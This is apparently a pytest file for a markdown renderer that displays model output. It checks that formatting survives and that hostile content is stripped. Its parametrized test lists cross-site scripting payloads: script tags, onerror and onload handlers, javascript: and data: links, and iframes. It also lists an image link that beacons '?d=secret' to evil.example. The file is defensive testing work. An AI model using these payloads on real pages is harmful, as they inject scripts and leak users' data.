"""Markdown rendering of model output: formatting kept, anything executable or beaconing dropped."""

from __future__ import annotations

import pytest

from sessions_app.markdown import render_markdown


def test_formatting_is_kept() -> None:
    """Bold, lists, code blocks and safe links render."""
    html = render_markdown(
        "**Plan**\n\n1. one\n2. two\n\n```powershell\nGet-Service\n```\n[doc](https://learn.microsoft.com)"
    )
    assert "<strong>Plan</strong>" in html and "<ol>" in html
    assert "<pre><code" in html and "Get-Service" in html
    assert (
        'href="https://learn.microsoft.com"' in html
        and 'rel="noopener noreferrer nofollow"' in html
    )


@pytest.mark.parametrize(
    ("text", "forbidden"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![pixel](https://evil.example/p.png?d=secret)", "evil.example"),
        ("[x](javascript:alert(1))", "javascript:"),
        ('<a href="https://ok.example" onclick="steal()">x</a>', "onclick"),
        ('<p style="background:url(https://evil.example)">x</p>', "style="),
        ("<iframe src=https://evil.example></iframe>", "<iframe"),
        ("<svg onload=alert(1)></svg>", "onload"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
    ],
)
def test_dangerous_output_is_neutralised(text: str, forbidden: str) -> None:
    """Scripts, handlers, styles, frames, images and odd URL schemes never survive."""
    assert forbidden not in render_markdown(text)


def test_code_is_escaped() -> None:
    """HTML inside a code block is shown as text."""
    html = render_markdown("```\n<b>not bold</b>\n```")
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html
